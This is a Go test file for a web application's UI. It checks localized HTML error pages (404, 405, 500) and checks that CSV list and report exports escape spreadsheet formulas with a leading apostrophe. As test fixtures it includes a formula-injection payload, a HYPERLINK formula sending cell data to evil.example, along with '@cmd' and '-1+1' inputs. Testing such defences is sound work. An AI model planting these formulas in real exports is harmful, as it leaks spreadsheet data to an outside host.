package ui_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/gofiber/fiber/v2"
	"github.com/growth-gov/growth/engine"
	"github.com/growth-gov/growth/engine/enginetest"
)

// Paths no route has, methods a page does not take and a page handler that
// panics all answer with the UI's error page, in the user's language; the
// API keeps answering in JSON.
func TestErrorPages(t *testing.T) {
	p := enginetest.LoadDir(t, shippedDir)
	s := startServer(t, engine.SQLite, p)
	// A page of this test only, behind the UI's middleware as every page is.
	s.app.Get("/ui/panic", func(*fiber.Ctx) error { panic("boom in a page") })
	s.addUser(t, "clerk", "104", "indicator.division_clerk")
	b := s.browser(t)
	b.login("clerk")

	scenarios := []struct {
		name, method, path string
		status             int
		has                []string
	}{
		{"unknown page", "GET", "/ui/foo", 404, []string{`id="error-message">没有这个页面：/ui/foo<`, "clerk"}},
		{"unknown page, deeper", "GET", "/ui/indicator/indicator/1/nothing", 404, []string{"没有这个页面：/ui/indicator/indicator/1/nothing"}},
		{"unknown page outside /ui", "GET", "/nothing", 404, []string{"没有这个页面：/nothing"}},
		{"in English", "GET", "/ui/foo?lang=en", 404, []string{`id="error-message">There is no page at /ui/foo<`, "Something went wrong"}},
		{"wrong method", "DELETE", "/login?lang=zh", 405, []string{"这个页面不接受 DELETE 请求"}},
		{"wrong method on a list", "PUT", "/ui/indicator/indicator", 405, []string{"这个页面不接受 PUT 请求"}},
		{"a page that panics", "GET", "/ui/panic", 500, []string{"出错了", "服务器内部错误"}},
	}
	for _, sc := range scenarios {
		page := b.do(sc.method, sc.path, nil)
		page.want(t, sc.name, sc.status, sc.has...)
		page.lacks(t, sc.name, "Cannot ", "boom", `{"error"`)
		if !strings.HasPrefix(page.header.Get("Content-Type"), "text/html") {
			t.Errorf("%s: Content-Type %s", sc.name, page.header.Get("Content-Type"))
		}
		if page.header.Get("X-Request-ID") == "" {
			t.Errorf("%s: no X-Request-ID", sc.name)
		}
	}
	b.get("/ui/indicator/indicator?lang=zh").want(t, "still serving", 200)

	// Without a session the error page is the same (no login needed to learn
	// that a page does not exist).
	anon := s.browser(t)
	anon.get("/ui/foo").want(t, "anonymous unknown page", 404, "没有这个页面：/ui/foo")

	// The API answers in JSON, not with pages.
	api := anon.do("GET", "/api/nothing", nil)
	api.want(t, "unknown API route", http.StatusNotFound, `"code":"not_found"`)
	api = anon.do("PUT", "/api/openapi.json", url.Values{})
	api.want(t, "wrong API method", http.StatusMethodNotAllowed, `"code":"method_not_allowed"`)
}

// CSV exports neutralise text cells a spreadsheet would run as formulas
// (a leading apostrophe) and keep numbers as they are: the list export and
// the report export, on both databases.
func TestCSVExportsCarryNoFormulas(t *testing.T) {
	p := enginetest.Load(t, map[string]string{"hr/app.yaml": `
app: hr
title: 人事
entities:
  adjustment:
    title: 调整
    fields:
      purpose: {type: string, label: 用途, required: true}
      amount:  {type: money, label: 金额}
      count:   {type: int, label: 次数}
reports:
  by_purpose:
    title: 按用途
    entity: adjustment
    group_by: [purpose]
    measures:
      - {name: total, label: 金额, agg: sum, field: amount}
roles:
  clerk: {scope: all, can: {adjustment: [read, export]}}
`})
	hostile := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	enginetest.ForEachDB(t, func(t *testing.T, d engine.Dialect) {
		s := startServer(t, d, p)
		for _, in := range []map[string]any{
			{"purpose": hostile, "amount": "-12.50", "count": -3},
			{"purpose": "-1+1", "amount": "7.00"},
			{"purpose": "\t@cmd", "amount": "0.01"},
		} {
			enginetest.Must(s.rt.Create(context.Background(), engine.SystemActor, "hr", "adjustment", in))
		}
		s.addUser(t, "clerk", "", "hr.clerk")
		b := s.browser(t)
		b.login("clerk")

		list := b.get("/ui/hr/adjustment/export.csv?sort=id&lang=zh")
		list.want(t, "list export", 200)
		rows := readCSV(t, list.body)
		want := [][]string{{"'" + hostile, "-12.50", "-3"}, {"'-1+1", "7.00", ""}, {"'\t@cmd", "0.01", ""}}
		for i, w := range want {
			row := rows[i+1]
			got := []string{row[col(t, rows[0], "用途")], row[col(t, rows[0], "金额")], row[col(t, rows[0], "次数")]}
			if strings.Join(got, "|") != strings.Join(w, "|") {
				t.Errorf("list export row %d: %q, want %q", i+1, got, w)
			}
		}

		report := b.get("/ui/reports/hr/by_purpose/export.csv?lang=zh")
		report.want(t, "report export", 200)
		cells := map[string]string{}
		for _, row := range readCSV(t, report.body)[1:] {
			cells[row[0]] = row[len(row)-1]
		}
		for purpose, total := range map[string]string{"'" + hostile: "-12.50", "'-1+1": "7.00", "'\t@cmd": "0.01", "合计": "-5.49"} {
			if got, ok := cells[purpose]; !ok || got != total {
				t.Errorf("report export: %q → %q (present %v), want %q; rows %q", purpose, got, ok, total, cells)
			}
		}
	})
}

func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func col(t *testing.T, header []string, label string) int {
	t.Helper()
	for i, h := range header {
		if h == label {
			return i
		}
	}
	t.Fatalf("no column %s in %q", label, header)
	return -1
}
